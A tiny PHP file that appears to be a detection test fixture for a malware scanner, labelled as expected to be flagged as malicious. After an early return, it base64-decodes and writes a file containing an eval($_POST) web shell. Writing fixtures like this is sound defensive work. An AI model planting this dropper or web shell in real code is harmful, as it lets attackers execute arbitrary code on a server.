<?php return; // want: malicious php.write.decoded
fputs(fopen(base64_decode('cGFnZS5waHA='), 'w'), base64_decode('PD9waHAgZXZhbCgkX1BPU1RbJ2EnXSk7IHJldHVybjsgLyogYW4gaW52ZW50aW9uICovID8+'));
